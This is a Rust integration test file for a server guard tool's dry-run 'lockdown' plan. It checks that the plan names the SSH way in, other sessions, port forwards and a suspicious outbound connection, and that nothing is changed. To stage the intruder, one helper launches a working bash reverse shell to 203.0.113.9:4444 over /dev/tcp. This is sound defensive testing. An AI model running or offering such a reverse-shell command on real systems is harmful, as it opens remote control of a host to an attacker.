//! What `guard lockdown` shows before it acts, with the real parts: OpenSSH, a bastion, a reverse shell, a port forward.
//! It changes nothing.

use std::{
    net::{TcpListener, TcpStream},
    process::Command,
    thread,
    time::{Duration, Instant},
};

use guard_tests::{
    guard::{Guard, binary},
    new_world,
    process::{Process, run},
    servers::Sshd,
    world::World,
};
use serde_json::Value;

const LIMIT: Duration = Duration::from_secs(60);

/// Over OpenSSH, as root on the server.
fn over_ssh(sshd: &Sshd, world: &World, ipv6: bool, line: &str) -> (i32, String) {
    let mut command = sshd.client(&world.responder, world.server.address(ipv6));
    command.env("LC_ALL", "C").arg(line);
    let ended = run(&mut command, LIMIT).unwrap();
    (ended.code().unwrap_or(-1), ended.stdout + &ended.stderr)
}

fn lockdown(guard: &Guard, world: &World, more: &str) -> String {
    format!(
        "NO_COLOR=1 {} lockdown --instance {} --state-dir {} --cgroup {} --dry-run {more}",
        binary().unwrap().display(),
        guard.instance(),
        guard.state_dir().display(),
        world.cgroup().display()
    )
}

fn plan(said: &str) -> Value {
    let line = said.lines().find(|line| line.starts_with('{')).unwrap_or_else(|| panic!("no JSON: {said}"));
    serde_json::from_str::<Value>(line).unwrap()["plan"].take()
}

/// Until the server sees it.
fn a_shell_elsewhere(world: &World) -> (TcpStream, Process) {
    let listener = world.intruder.run(|| TcpListener::bind("203.0.113.9:4444")).unwrap();
    let mut command: Command = world.server.command("/bin/bash");
    command.args(["-c", "exec bash -i <> /dev/tcp/203.0.113.9/4444 >&0 2>&1"]);
    let shell = Process::spawn(&mut command).unwrap();
    (listener.accept().unwrap().0, shell)
}

#[test]
fn it_names_the_session_the_others_and_what_it_cuts() {
    let Some(world) = new_world("netns_lockdown_plan session") else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: enforce\ninbound: []\noutbound: []\n").unwrap();
    let _intruder = a_shell_elsewhere(&world);
    // A colleague on the same bastion, with a terminal.
    let mut colleague = sshd.client(&world.responder, world.server.v4.into());
    let _colleague = Process::spawn(colleague.args(["-tt", "echo here; sleep 600"])).unwrap();
    let deadline = Instant::now() + LIMIT;
    let (code, said) = loop {
        let (code, said) = over_ssh(&sshd, &world, false, &lockdown(&guard, &world, "--json"));
        let there = said.contains("\"terminal\":true");
        if there || Instant::now() > deadline {
            break (code, said);
        }
        thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(code, 0, "{said}");
    let plan = plan(&said);
    let ways = plan["way_in"]["ways"].as_array().unwrap();
    assert_eq!(ways.len(), 1, "{plan:#}");
    assert_eq!((&ways[0]["range"], &ways[0]["service"]), (&"198.51.100.7/32".into(), &"tcp/22".into()));
    assert_eq!(plan["way_in"]["others"].as_array().unwrap().len(), 1, "{plan:#}");
    assert_eq!(plan["single_way_in"], true);
    let cut = plan["impact"]["would_cut"].as_array().unwrap();
    assert_eq!(cut.iter().map(|cut| cut["flow"].as_str().unwrap()).collect::<Vec<_>>(), ["out tcp 203.0.113.9:4444"]);
    let suspects = plan["worth_a_look"].as_array().unwrap();
    assert_eq!(suspects.len(), 1, "{plan:#}");
    assert!(suspects[0]["unusual"].to_string().contains("socket_on_standard_streams"), "{plan:#}");
    assert!(plan["policy"].as_str().unwrap().contains("lockdown: true"), "{plan:#}");

    let (code, said) =
        over_ssh(&sshd, &world, false, &lockdown(&guard, &world, "--serve tcp/443 --allow-from 192.0.2.20"));
    assert_eq!(code, 0, "{said}");
    for part in [
        "LOCK DOWN ",
        "Way in    198.51.100.7 tcp/22 (your sshd",
        "1 other session",
        "A WEB SHELL BEHIND",
        "nothing was changed",
    ] {
        assert!(said.contains(part), "{part}\n{said}");
    }
    assert!(!said.contains("only one way in"), "{said}");
    // What it says is what `check` takes.
    let policy = plan["policy"].as_str().unwrap();
    guard.write_policy(policy).unwrap();
    let ended = run(Command::new(binary().unwrap()).arg("test").arg(guard.policy()), LIMIT).unwrap();
    assert!(ended.good(), "{}", ended.text());
    assert_eq!(guard.status().unwrap()["mode"], "none", "nothing is attached");
    assert!(!guard.state_dir().exists(), "and nothing written");
}

#[test]
fn a_source_of_ipv6_keeps_its_64_and_a_forward_is_told() {
    let Some(world) = new_world("netns_lockdown_plan ipv6") else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: enforce\ninbound: []\noutbound: []\n").unwrap();
    let mut command = sshd.client(&world.responder, world.server.v6.into());
    command.args(["-R", "127.0.0.1:8099:127.0.0.1:9"]).arg(lockdown(&guard, &world, "--json"));
    let ended = run(&mut command, LIMIT).unwrap();
    let plan = plan(&ended.stdout);
    assert_eq!(plan["way_in"]["ways"][0]["range"], "2001:db8:17::/64", "{plan:#}");
    let forwards = &plan["way_in"]["forwards"];
    assert!(forwards.to_string().contains("listens on 127.0.0.1:8099"), "{plan:#}");
    let (_, said) = over_ssh(&sshd, &world, true, &lockdown(&guard, &world, "--exact"));
    assert!(said.contains("2001:db8:17::7 tcp/22") && !said.contains("/64"), "{said}");
}

#[test]
fn without_a_way_in_it_refuses_and_names_the_sessions_there_are() {
    let Some(world) = new_world("netns_lockdown_plan none") else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: enforce\ninbound: []\noutbound: []\n").unwrap();
    let mut colleague = sshd.client(&world.responder, world.server.v4.into());
    let mut colleague = Process::spawn(colleague.args(["-tt", "echo here; sleep 600"])).unwrap();
    colleague.wait_line(LIMIT, |line| line.contains("here")).unwrap();
    let ask = |more: &[&str]| {
        let mut command = guard.command("lockdown").unwrap();
        command.env_remove("SSH_CONNECTION").args(["--dry-run", "--cgroup"]).arg(world.cgroup()).args(more);
        run(&mut command, LIMIT).unwrap()
    };
    let refused = ask(&[]);
    assert_eq!(refused.code(), Some(3), "{}", refused.text());
    for part in ["no connection that carries this terminal", "198.51.100.7", "--allow-from", "--console"] {
        assert!(refused.stderr.contains(part), "{part}\n{}", refused.text());
    }
    for (arguments, part) in [
        (&["--console", "--keep", "no-such-unit"][..], "no process with this unit"),
        (&["--console", "--serve", "443"], "write tcp/443"),
        (&["--allow-from", "198.51.100.9", "--no-keep-session", "--cut", "1"], "no other session"),
    ] {
        let refused = ask(arguments);
        assert_eq!(refused.code(), Some(3), "{}", refused.text());
        assert!(refused.stderr.contains(part), "{part}\n{}", refused.text());
    }
    assert_eq!(ask(&["--allow-from", "198.51.100.7:22"]).code(), Some(2), "usage");
    for arguments in [&["--console"][..], &["--allow-from", "198.51.100.9"]] {
        let shown = ask(arguments);
        assert!(shown.good() && shown.stdout.contains("nothing was changed"), "{}", shown.text());
    }
}
